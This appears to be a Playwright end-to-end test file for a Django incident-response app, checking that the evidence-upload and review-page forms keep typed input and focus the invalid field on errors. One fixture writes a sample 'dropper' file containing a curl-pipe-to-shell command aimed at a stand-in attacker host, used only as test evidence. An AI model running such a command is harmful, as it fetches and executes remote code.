"""A form answered with an error keeps what was typed and shows the error next to its
field, in view and with the focus on it: the evidence upload, and the review page's
forms far down the page."""

from __future__ import annotations

import re

import pytest
from django_otp.plugins.otp_totp.models import TOTPDevice
from playwright.sync_api import expect

from accounts.roles import Role
from accounts.services import member_save
from evidence.models import EvidenceItem
from incidents.lifecycle import ORDER, Status
from incidents.services import incident_change_status
from tests.e2e.helpers import PASSWORD, sign_in
from tests.factories import IncidentFactory

pytestmark = pytest.mark.django_db(transaction=True)

IN_VIEW = """el => {
  const box = el.getBoundingClientRect();
  return box.top >= 0 && box.bottom <= window.innerHeight;
}"""


@pytest.fixture
def lead(db):
    user, _ = member_save(actor=None, username="lea", role=Role.LEAD, password=PASSWORD)
    return user, TOTPDevice.objects.create(user=user, name="Authenticator app", confirmed=True)


def test_a_bad_sha256_keeps_what_was_typed_and_says_so_at_the_field(page, lead, settings, tmp_path):
    settings.EVIDENCE_ROOT = tmp_path / "vault"
    user, device = lead
    incident = IncidentFactory(reporter=user, title="Dropper on web-7")
    sample = tmp_path / "dropper.sh"
    sample.write_text("curl http://evil.example/x | sh\n")
    sign_in(page, "lea", device, next_path=f"/incidents/{incident.pk}/")

    form = page.locator("form[action$='/upload/']")
    form.locator("input[name=file]").set_input_files(sample)
    form.locator("select[name=kind]").select_option("log")
    form.locator("[name=description]").fill("Found in /tmp by the EDR")
    form.locator("[name=source_host]").fill("web-7")
    form.locator("[name=sha256]").fill("e3b0c44298fc1c149afbf4c8996fb924")  # an MD5's length
    form.locator("[type=submit]").click()

    page.wait_for_url(re.compile(rf"/evidence/incidents/{incident.pk}/upload/$"))
    form = page.locator("form.evidence-upload")
    sha = form.locator("[name=sha256]")
    expect(sha).to_have_value("e3b0c44298fc1c149afbf4c8996fb924")
    expect(sha).to_have_attribute("aria-invalid", "true")
    expect(sha).to_be_focused()
    expect(form.locator(".field:has([name=sha256])")).to_contain_text(
        "Give the SHA-256 as 64 hexadecimal characters."
    )
    expect(form.locator("select[name=kind]")).to_have_value("log")
    expect(form.locator("[name=description]")).to_have_value("Found in /tmp by the EDR")
    expect(form.locator("[name=source_host]")).to_have_value("web-7")
    assert not EvidenceItem.objects.exists()

    # Corrected, with the file chosen again, it goes through.
    form.locator("input[name=file]").set_input_files(sample)
    sha.fill("")
    form.locator("[type=submit]").click()
    page.wait_for_url(re.compile(r"/evidence/\d+/$"))
    assert EvidenceItem.objects.get().source_host == "web-7"


def test_an_error_far_down_the_review_page_is_shown_where_the_person_is(page, lead):
    user, device = lead
    incident = IncidentFactory(reporter=user, title="Leaked API key")
    for status in ORDER[1 : ORDER.index(Status.REVIEW) + 1]:
        incident_change_status(incident=incident, actor=user, status=status)
    sign_in(page, "lea", device, next_path=f"/incidents/{incident.pk}/review/")

    # The page's one "Add an action item" form, below every section.
    form = page.locator("#add-action-item form")
    form.locator("select[name=section]").select_option(label="Which human factors can improve?")
    form.locator("[name=title]").fill("Train the help desk on call-back checks")
    form.locator("select[name=owner]").select_option("lea")
    form.locator("[name=due_date]").fill("2200-01-01")  # after 2100: refused by the server
    form.locator("[type=submit]").click()

    page.wait_for_load_state("load")
    form = page.locator("#add-action-item form")
    due = form.locator("[name=due_date]")
    expect(due).to_have_attribute("aria-invalid", "true")
    expect(due).to_be_focused()
    assert due.evaluate(IN_VIEW), "the field to correct is out of view"
    expect(form.locator("[name=title]")).to_have_value("Train the help desk on call-back checks")
